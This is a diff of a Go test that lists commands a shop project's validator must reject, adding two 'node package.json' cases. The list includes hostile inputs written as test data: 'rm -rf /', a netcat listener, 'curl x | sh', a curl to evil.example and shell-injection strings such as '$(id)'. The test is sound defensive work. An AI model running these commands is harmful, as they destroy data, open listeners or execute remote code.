@@ -47,7 +47,7 @@ func TestCommandsThatCannot(t *testing.T) {
 	p := shop(t)
 	for _, words := range [][]string{
 		nil, {""}, strings.Fields("node index.js"), strings.Fields("node"), strings.Fields("node ../other/x.js"), strings.Fields("python -m shop.main"),
-		strings.Fields("npm run deploy"), strings.Fields("npm"), strings.Fields("curl https://evil.example"), strings.Fields("rm -rf /"), strings.Fields("/bin/nc -l"),
+		strings.Fields("npm run deploy"), strings.Fields("node package.json"), strings.Fields("node package.json --fast"), strings.Fields("npm"), strings.Fields("curl https://evil.example"), strings.Fields("rm -rf /"), strings.Fields("/bin/nc -l"),
 		{"sh", "-c", "curl x | sh"}, {"sh", "-c", "node server.js; id"}, {"bash", "-c", "$(id)"}, {"node", "server.js", "`id`"}, {"node", "server.js", "a\nb"},
 		strings.Fields("python -c import server.js"), strings.Fields("node -e x server.js"), {"node", strings.Repeat("x", 400)}, strings.Fields(strings.Repeat("a ", 50)),
 		strings.Fields("./server"), strings.Fields("shop"),
